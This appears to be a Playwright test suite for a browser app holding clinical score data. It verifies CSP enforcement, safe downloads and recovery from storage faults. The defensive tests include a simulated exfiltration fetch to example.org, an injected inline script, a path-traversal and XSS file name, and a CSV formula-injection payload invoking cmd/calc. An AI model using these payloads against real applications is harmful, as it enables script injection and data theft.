/**
 * Issue 7 in the built app: a locked-down origin (CSP really present and really enforced), every view
 * visited plus an import and an export without one request leaving the origin (the `guard` fixture
 * fails the test on any off-origin request, console error or CSP violation), safe downloads, and the
 * storage faults — a reload in the middle of an import, a corrupted kept dataset, storage full, two
 * tabs importing at once — leaving the other datasets intact and telling the user what to do.
 */
import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { test, expect } from './guard';

const badFile = (name: string) => path.join(process.cwd(), 'tests', 'fixtures', 'bad-files', name);
const ready = (page: Page) => expect(page.getByTestId('engine-status')).toHaveAttribute('data-status', 'ready', { timeout: 30_000 });
const csv = (rows: string[]) => Buffer.from(['client_id,route,instrument,phase,session,week,score', ...rows].join('\n') + '\n');

/** Import `file` through the Data page and keep it under `name`. */
async function importAndKeep(page: Page, file: { name: string; mimeType: string; buffer: Buffer }, name: string) {
	await page.getByTestId('file-input').setInputFiles(file);
	await expect(page.getByTestId('preview')).toBeVisible();
	await page.getByTestId('dataset-name').fill(name);
	await page.getByTestId('run-import').click();
	await expect(page.getByTestId('import-report')).toBeVisible();
	await page.getByTestId('keep-import').click();
}

test.describe('locked-down origin', () => {
	test('the built page carries the CSP: self only, wasm, hashed inline scripts, no unsafe-inline/eval for scripts', async ({ page }) => {
		const html = await (await page.request.get('/')).text();
		const content = /<meta http-equiv="content-security-policy" content="([^"]+)"/.exec(html)?.[1];
		expect(content, 'CSP meta tag').toBeTruthy();
		const csp = new Map(content!.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
		expect(csp.get('default-src')).toEqual(["'self'"]);
		expect(csp.get('connect-src')).toEqual(["'self'"]);
		expect(csp.get('worker-src')).toEqual(["'self'"]);
		expect(csp.get('object-src')).toEqual(["'none'"]);
		expect(csp.get('base-uri')).toEqual(["'self'"]);
		const script = csp.get('script-src')!;
		expect(script.slice(0, 2)).toEqual(["'self'", "'wasm-unsafe-eval'"]);
		for (const s of script.slice(2)) expect(s).toMatch(/^'sha256-[A-Za-z0-9+/=]+'$/);
		// every inline script of the page (Kit's bootstrap with the prebuilt first view's data, app.html's
		// own) is allowed by its hash, and only those
		expect(html).toContain('data-not-prebuilt'); // app.html's script is there to be checked
		const inline = [...html.matchAll(/<script(?![^>]*\bsrc=)(?![^>]*\btype="application\/json")[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
		expect(inline.length).toBeGreaterThan(0);
		const hashes = inline.map((body) => `'sha256-${createHash('sha256').update(body).digest('base64')}'`);
		expect(script.slice(2).sort()).toEqual([...new Set(hashes)].sort());
	});

	test('CSP is enforced: a fetch to another origin and an injected inline script are blocked by the policy', async ({ page, guard }) => {
		await page.goto('/');
		await ready(page);
		const result = await page.evaluate(async () => {
			const violations: string[] = [];
			document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
			let fetched: string;
			try {
				await fetch('https://example.org/exfiltrate?scores=1');
				fetched = 'reached the network';
			} catch {
				fetched = 'blocked';
			}
			const s = document.createElement('script');
			s.textContent = 'window.__injected = true';
			document.body.append(s);
			await new Promise((r) => setTimeout(r, 200));
			return { fetched, violations, injected: (window as unknown as { __injected?: boolean }).__injected === true };
		});
		expect(result.fetched).toBe('blocked');
		expect(result.injected).toBe(false);
		// The policy, not the test's network guard, stopped them: without CSP there would be no violation
		// events and the fetch would show up in guard.offOrigin.
		expect(result.violations).toEqual([expect.stringMatching(/^connect-src https:\/\/example\.org/), expect.stringMatching(/^script-src(-elem)? inline/)]);
		expect(guard.offOrigin).toEqual([]);
		// These two violations were provoked on purpose; anything else still fails the guard.
		const provoked = /example\.org|inline script|script-src(-elem)? inline/;
		const unexpected = guard.consoleErrors.filter((m) => !provoked.test(m));
		guard.consoleErrors.splice(0, guard.consoleErrors.length, ...unexpected);
	});

	test('every view, an import and an export: nothing leaves the origin, downloads are safe', async ({ page }) => {
		// five views, an import and an export in one test: about a minute on a busy 2-core machine
		test.setTimeout(180_000);
		const firstClient = readFileSync(path.resolve('data/demo-cohort.csv'), 'utf8').split(/\r?\n/)[1].split(',')[0];
		const views = ['/', '/compare', '/clients', `/clients/${firstClient}`, '/data'].filter((v) => {
			// adapt to the routes that exist in this checkout (views are added by other work)
			const dir = v === '/' ? '' : v.startsWith('/clients/') ? 'clients/[id]' : v.slice(1);
			return existsSync(path.join('src/routes', dir, '+page.svelte'));
		});
		expect(views).toContain('/');
		expect(views).toContain('/data');
		for (const v of views) {
			await page.goto(v);
			await ready(page);
			await expect(page.locator('main')).not.toBeEmpty();
			await page.waitForLoadState('networkidle');
		}
		// import a file full of formulas under a hostile file name
		await page.goto('/data');
		await ready(page);
		const hostileName = '../..\\<img src=x onerror=alert(1)>=cmd|calc.csv';
		await page.getByTestId('file-input').setInputFiles({ name: hostileName, mimeType: 'text/csv', buffer: readFileSync(badFile('formula-injection.csv')) });
		await expect(page.getByTestId('preview')).toBeVisible();
		await page.getByTestId('dataset-name').fill('<b>x</b>'); // shown later as text, never as markup
		await page.getByTestId('run-import').click();
		await expect(page.getByTestId('rows-read')).toHaveText('4');
		await expect(page.getByTestId('rows-rejected')).toHaveText('2');
		const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /Download rejected rows/ }).click()]);
		const fileName = download.suggestedFilename();
		expect(fileName).toMatch(/^[A-Za-z0-9_][A-Za-z0-9_.-]*\.csv$/);
		expect(fileName).not.toMatch(/\.\.|[/\\<>|=]/);
		const body = readFileSync((await download.path())!, 'utf8');
		expect(body).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
		expect(body).toContain("'-2+3");
		for (const line of body.split('\r\n')) expect(line, 'a line starting with a formula').not.toMatch(/^[=+@\t]/);
		await page.getByTestId('keep-import').click();
		await expect(page.getByTestId('datasets')).toContainText('<b>x</b>');
		await page.goto('/');
		await ready(page);
		await page.waitForLoadState('networkidle');
	});
});

test.describe('storage faults', () => {
	test('a reload in the middle of an import and a half-written dataset folder: kept data intact, the user is told', async ({ page }) => {
		await page.goto('/data');
		await ready(page);
		await importAndKeep(page, { name: 'a.csv', mimeType: 'text/csv', buffer: csv(['A1,iv,phq9,baseline,0,,20', 'A1,iv,phq9,session,1,,12']) }, 'Kept A');
		await expect(page.getByRole('status')).toContainText('kept in this browser');
		// a second file: reload while its import is under way (nothing is written before "Keep")
		const rows = Array.from({ length: 200_000 }, (_, i) => `B${i % 3000},iv,bdi2,session,${1 + (i % 12)},,${i % 60}`);
		await page.getByTestId('file-input').setInputFiles({ name: 'b.csv', mimeType: 'text/csv', buffer: csv(rows) });
		await expect(page.getByTestId('run-import')).toBeVisible({ timeout: 30_000 });
		await page.getByTestId('run-import').click();
		await page.reload();
		await ready(page);
		// and a folder left by a save that died between data.arrow and meta.json
		await page.evaluate(async () => {
			const root = await navigator.storage.getDirectory();
			const dir = await (await root.getDirectoryHandle('datasets', { create: true })).getDirectoryHandle('zz-half', { create: true });
			const w = await (await dir.getFileHandle('data.arrow', { create: true })).createWritable();
			await w.write(new Uint8Array(1000));
			await w.close();
		});
		await page.reload();
		await ready(page);
		await expect(page.getByTestId('storage-problem')).toContainText('Stored dataset zz-half: an import was interrupted before it finished');
		await expect(page.getByTestId('storage-problem')).toContainText('Your other datasets are not affected');
		await expect(page.getByTestId('datasets')).toContainText('Kept A');
		await expect(page.getByTestId('engine-status')).toContainText('Kept A · 1 clients · 2 scores');
		const folders = await page.evaluate(async () => {
			const out: string[] = [];
			const root = await navigator.storage.getDirectory();
			for await (const [name] of (await root.getDirectoryHandle('datasets')) as unknown as AsyncIterable<[string]>) out.push(name);
			return out;
		});
		expect(folders).toHaveLength(1); // the half folder was cleaned up, Kept A stays
	});

	test('a corrupted kept dataset: the app starts on another, the others stay usable, the Data page says what to do', async ({ page }) => {
		await page.goto('/data');
		await ready(page);
		await importAndKeep(page, { name: 'good.csv', mimeType: 'text/csv', buffer: csv(['G1,iv,gad7,baseline,0,,15', 'G1,iv,gad7,session,1,,9']) }, 'Good one');
		await expect(page.getByRole('status').filter({ hasText: '“Good one”' })).toContainText('kept in this browser');
		await importAndKeep(page, { name: 'bad.csv', mimeType: 'text/csv', buffer: csv(['X1,iv,phq9,baseline,0,,20', 'X1,iv,phq9,session,1,,10', 'X2,im,phq9,baseline,0,,22']) }, 'Will break');
		await expect(page.getByTestId('engine-status')).toContainText('Will break');
		// The DuckDB import path shows the dataset first and keeps it right after: wait until it is kept.
		await expect(page.getByRole('status').filter({ hasText: '“Will break”' })).toContainText('kept in this browser');
		// flip bytes in the active dataset's data file (a DuckDB database file), as a disk or browser fault would
		await page.evaluate(async () => {
			const datasets = await (await navigator.storage.getDirectory()).getDirectoryHandle('datasets');
			for await (const [id] of datasets as unknown as AsyncIterable<[string]>) {
				const dir = await datasets.getDirectoryHandle(id);
				const meta = JSON.parse(await (await (await dir.getFileHandle('meta.json')).getFile()).text());
				if (meta.name !== 'Will break') continue;
				if (meta.version !== 2) throw new Error(`kept in format ${meta.version}, not as a DuckDB file`);
				const handle = await dir.getFileHandle('data.duckdb');
				const bytes = new Uint8Array(await (await handle.getFile()).arrayBuffer());
				for (let i = 100; i < 140; i++) bytes[i] ^= 0xff;
				const w = await handle.createWritable();
				await w.write(bytes);
				await w.close();
				return;
			}
			throw new Error('“Will break” is not kept');
		});
		await page.reload();
		await ready(page);
		await expect(page.getByTestId('dataset-problem')).toContainText('“Will break” could not be loaded and is not in use');
		await expect(page.getByTestId('dataset-problem')).toContainText('checksum does not match');
		await expect(page.getByTestId('dataset-problem')).toContainText('delete it and import the file again');
		await expect(page.getByTestId('datasets')).toContainText('damaged');
		// the app fell back to the demo; the intact dataset is one click away and loads
		await page.getByTestId('datasets').locator('tr', { hasText: 'Good one' }).getByRole('button', { name: 'Use' }).click();
		await expect(page.getByTestId('engine-status')).toContainText('Good one · 1 clients · 2 scores');
		// the damaged one can be deleted, which clears the message
		page.once('dialog', (d) => d.accept());
		await page.getByTestId('datasets').locator('tr', { hasText: 'Will break' }).getByRole('button', { name: 'Delete' }).click();
		await expect(page.getByTestId('dataset-problem')).toHaveCount(0);
		await expect(page.getByTestId('datasets')).not.toContainText('Will break');
	});

	test('storage full: the new dataset is used for this session only, the message says what to do, the kept one survives', async ({ page }) => {
		// Make OPFS writes of the dataset data fail like a full disk once the flag is set.
		await page.addInitScript(() => {
			const proto = (globalThis as unknown as { FileSystemWritableFileStream: { prototype: { write(d: unknown): Promise<void> } } }).FileSystemWritableFileStream.prototype;
			const write = proto.write;
			proto.write = function (this: unknown, data: unknown) {
				if ((globalThis as unknown as { __quotaFull?: boolean }).__quotaFull) return Promise.reject(new DOMException('The quota has been exceeded.', 'QuotaExceededError'));
				return write.call(this, data);
			};
		});
		await page.goto('/data');
		await ready(page);
		await importAndKeep(page, { name: 'first.csv', mimeType: 'text/csv', buffer: csv(['K1,iv,phq9,baseline,0,,20', 'K1,iv,phq9,session,1,,11']) }, 'First');
		await expect(page.getByRole('status')).toContainText('kept in this browser');
		await page.evaluate(() => ((globalThis as unknown as { __quotaFull: boolean }).__quotaFull = true));
		await importAndKeep(page, { name: 'second.csv', mimeType: 'text/csv', buffer: csv(['L1,oral,gad7,baseline,0,,12', 'L1,oral,gad7,session,1,,6']) }, 'Second');
		await expect(page.getByRole('status')).toContainText('could not be kept');
		await expect(page.getByRole('status')).toContainText('storage for this site is full');
		await expect(page.getByRole('status')).toContainText('Delete a dataset you no longer need');
		await expect(page.getByRole('status')).toContainText('Nothing already kept was changed');
		await expect(page.getByTestId('engine-status')).toContainText('Second');
		await page.reload();
		await ready(page);
		await expect(page.getByTestId('datasets')).toContainText('First');
		await expect(page.getByTestId('datasets')).not.toContainText('Second');
		await expect(page.getByTestId('storage-problem')).toHaveText([]); // the failed save left nothing behind (on failure: the problem's text)
	});

	test('two tabs importing at once: both datasets are kept and listed', async ({ page, context }) => {
		const other = await context.newPage();
		for (const p of [page, other]) {
			await p.goto('/data');
			await ready(p);
		}
		const big = (prefix: string) => csv(Array.from({ length: 30_000 }, (_, i) => `${prefix}${Math.floor(i / 50)},iv,bdi2,session,${1 + (i % 50)},,${i % 60}`));
		for (const [p, prefix] of [[page, 'T'], [other, 'U']] as const) {
			await p.getByTestId('file-input').setInputFiles({ name: `${prefix}.csv`, mimeType: 'text/csv', buffer: big(prefix) });
			await expect(p.getByTestId('preview')).toBeVisible();
			await p.getByTestId('dataset-name').fill(`Tab ${prefix}`);
		}
		await Promise.all([page.getByTestId('run-import').click(), other.getByTestId('run-import').click()]);
		for (const p of [page, other]) await expect(p.getByTestId('keep-import')).toBeVisible({ timeout: 30_000 });
		await Promise.all([page.getByTestId('keep-import').click(), other.getByTestId('keep-import').click()]);
		for (const p of [page, other]) await expect(p.getByRole('status')).toContainText('kept in this browser', { timeout: 30_000 });
		await other.close();
		await page.reload();
		await ready(page);
		await expect(page.getByTestId('datasets')).toContainText('Tab T');
		await expect(page.getByTestId('datasets')).toContainText('Tab U');
		await expect(page.getByTestId('storage-problem')).toHaveCount(0);
		await page.getByTestId('datasets').locator('tr', { hasText: 'Tab U' }).getByRole('button', { name: 'Use' }).click();
		await expect(page.getByTestId('engine-status')).toContainText('Tab U · 600 clients · 30,000 scores');
	});
});
